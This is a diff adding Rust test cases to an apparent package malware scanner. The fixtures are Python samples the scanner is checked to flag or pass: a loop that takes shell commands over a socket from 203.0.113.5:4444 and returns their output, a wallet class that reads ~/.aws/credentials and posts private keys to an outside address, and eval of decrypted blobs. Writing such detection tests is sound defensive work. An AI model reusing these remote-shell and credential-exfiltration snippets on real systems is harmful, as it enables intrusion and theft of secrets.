@@ -179,6 +179,13 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         "import socket, subprocess\n\
          def connect(port):\n    s = socket.socket()\n    s.connect(('127.0.0.1', port))\n    return s\n\
          def kill(proc):\n    subprocess.Popen(['cmd', '/c', 'taskkill', '/f', '/t', '/pid', str(proc.pid)])\n",
+        // A model server's manager: probes a port with a socket in one
+        // function, pipes a vendor's install script into `sh` in another
+        // (the shell reads that script to its end and exits).
+        "import socket, subprocess\n\
+         def is_port_open(host, port):\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        \
+         s.connect((host, port))\n        return True\n\
+         def install(script):\n    subprocess.run(['sh'], input=script, capture_output=True, text=True)\n",
     ];
     for src in benign {
         let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
@@ -205,6 +212,14 @@ fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process()
         assert!(report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
         assert_eq!(report.risk_level, RiskLevel::Critical);
     }
+    // Each command a socket receives handed to a new shell as its input:
+    // not a shell on the socket's streams, but what the socket sends still
+    // runs, and another rule says so.
+    let per_command = "import socket, subprocess\ndef main():\n    s = socket.socket()\n    \
+                       s.connect(('203.0.113.5', 4444))\n    while True:\n        cmd = s.recv(1024)\n        \
+                       out = subprocess.run(['sh'], input=cmd, capture_output=True)\n        s.send(out.stdout)\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: per_command.as_bytes() }]);
+    assert!(report.risk_level >= RiskLevel::High, "{:#?}", report.findings);
 }
 
 /// Install-time beacons (issue 19): who and where a package is installed,
@@ -624,6 +639,36 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
     }
 }
 
+/// A method of the caller's own class named like a network call (a
+/// wallet's `self.send(outputs, priv_keys=...)`) is the package's function:
+/// what it does with its parameters is judged inside it. Written for the test.
+#[test]
+fn a_method_of_its_own_class_named_send_is_not_a_network_send() {
+    let rules = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "wallet/wallets.py", bytes: src.as_bytes() }]);
+        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
+    };
+    let wallet = "import os\nclass Wallet:\n    def send(self, outputs, priv_keys=None):\n        \
+                  tx = self.sign(outputs, priv_keys)\n        return self.store(tx)\n\n    \
+                  def send_to(self, to_address, amount, priv_keys=None):\n        \
+                  key = open(os.path.expanduser('~/.aws/credentials')).read()\n        \
+                  return self.send([(to_address, amount)], priv_keys=priv_keys or key)\n";
+    let r = rules(wallet);
+    assert!(!r.iter().any(|(id, _)| *id == "exfiltration"), "{r:?}");
+    // Its own `send` that posts what it is handed to an address written in
+    // the code still sends it.
+    let posts = wallet.replace(
+        "tx = self.sign(outputs, priv_keys)\n        return self.store(tx)",
+        "import requests\n        return requests.post('http://203.0.113.9/k', data=priv_keys)",
+    );
+    let r = rules(&posts);
+    assert!(r.iter().any(|(id, s)| *id == "exfiltration" && *s >= Severity::High), "{r:?}");
+    // A `send` the class does not define (a socket subclass's) is a send.
+    let socket = wallet.replace("class Wallet:", "import socket\nclass Wallet(socket.socket):").replace("def send(", "def sent(");
+    let r = rules(&socket);
+    assert!(r.iter().any(|(id, _)| *id == "exfiltration"), "{r:?}");
+}
+
 /// What exec and eval run is their first argument: a namespace that went
 /// through a reversing slice is data, not hidden code. Written for the test.
 #[test]
@@ -673,6 +718,33 @@ fn data_flows_across_the_files_of_a_package_are_followed() {
         Entry { path: "a/run.py", bytes: runner.as_bytes() },
     ];
     assert_eq!(f(&entries, "exec-decoded").map(|x| x.severity), Some(Severity::Critical));
+    // Another module's decryptor applied, when asked, to what a function
+    // reads from its database (a credentials helper `eval`ing the dict it
+    // stored encrypted): a deserializer, for a reviewer, as within one
+    // file. Run while loading, or with a payload either file carries, it
+    // is the package's own hidden code again.
+    let decrypt = "from cryptography.fernet import Fernet\nimport os\n\
+                   def decrypt_secure(s):\n    return Fernet(os.environ['KEY']).decrypt(s.encode()).decode()\n";
+    let helper = "from pkg.core.encrypt import decrypt_secure\n\
+                  def get_credentials(db, email):\n    r = db.execute_query(email)\n    \
+                  return eval(decrypt_secure(r[0]['token']))\n";
+    let asked = [
+        Entry { path: "pkg/core/encrypt.py", bytes: decrypt.as_bytes() },
+        Entry { path: "pkg/auth.py", bytes: helper.as_bytes() },
+    ];
+    let x = f(&asked, "exec-decoded").expect("reported");
+    assert_eq!(x.severity, Severity::Medium, "{x:#?}");
+    let at_load = format!("{helper}get_credentials(DB, 'a@b.c')\n");
+    let carried = helper.replace("r[0]['token']", "'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'");
+    let own = format!("{decrypt}BLOB = 'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'\ndef payload():\n    return decrypt_secure(BLOB)\n");
+    for (encrypt, auth) in [(decrypt, at_load.as_str()), (decrypt, carried.as_str()), (own.as_str(), helper)] {
+        let entries = [
+            Entry { path: "pkg/core/encrypt.py", bytes: encrypt.as_bytes() },
+            Entry { path: "pkg/auth.py", bytes: auth.as_bytes() },
+        ];
+        let x = f(&entries, "exec-decoded").expect("reported");
+        assert_eq!(x.severity, Severity::Critical, "{encrypt}\n{auth}\n{x:#?}");
+    }
     // A download started as a command by a module of a package (`pkg.net`).
     let net = "import urllib.request\ndef command():\n    return urllib.request.urlopen(URL).read().decode()\n";
     let start = "import os, pkg.net\nos.system(pkg.net.command())\n";
